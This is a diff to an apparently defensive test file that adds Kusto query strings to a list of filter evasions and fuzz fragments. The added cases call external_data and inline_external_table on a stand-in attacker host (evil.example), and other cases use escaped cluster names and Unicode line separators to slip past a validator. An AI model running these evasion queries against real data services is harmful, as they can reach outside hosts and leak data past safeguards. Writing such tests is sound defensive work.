@@ -13,6 +13,10 @@ const EVASIONS = [
   'print 1 // x\u2029| evaluate http_request("https://evil.example/")',
   'print 1 // x\u0085| evaluate http_request("https://evil.example/")',
   'print 1 // x\u2028 ```\n| evaluate http_request("https://evil.example/") // ```',
+  // The operator has an older name, and a younger sister.
+  'external_data (a:string) ["https://evil.example/x"]',
+  "T | join (external_data(a:string)['https://evil.example/x']) on a",
+  'inline_external_table (a:string) kind=storage dataformat=csv ("https://evil.example/x")',
   // A quoted name has escapes.
   "union (['clus\\x74er']('evil').['data\\x62ase']('b').T2)",
   "union (['\\u0063luster']('evil').T)",
@@ -51,7 +55,13 @@ test.each([
 const FRAGMENTS = [
   ...['print 1', 'T', '| union ', '| where a == ', '| evaluate ', '| take 1', ';', 'let a = ', '('],
   ...['cluster', "['cluster']", "['clus\\x74er']", '["database"]', '("x")', "('x')", '.T', ')'],
-  ...['http_request("x")', 'bag_unpack(d)', 'externaldata (a:string) ["x"]', 'workspace("x").T'],
+  ...[
+    'http_request("x")',
+    'bag_unpack(d)',
+    'externaldata (a:string) ["x"]',
+    'external_data (a:string) ["x"]',
+    'workspace("x").T',
+  ],
   ...['datetime(', 'guid(', 'time(', 'long (', 'DATE(', 'dynamic({"a":1})', '5', '0x1F', '1.5h'],
   ...['"', "'", '```', '~~~', '@"', 'h"', 'h@"', '\\', '//', '#', '/', '-', '.', ',', '=', '|'],
   ...[' ', '\n', '\r', '\r\n', '\t', '\v', '\f', '\u0085', '\u00a0', '\u2028', '\u2029', '\ufeff'],
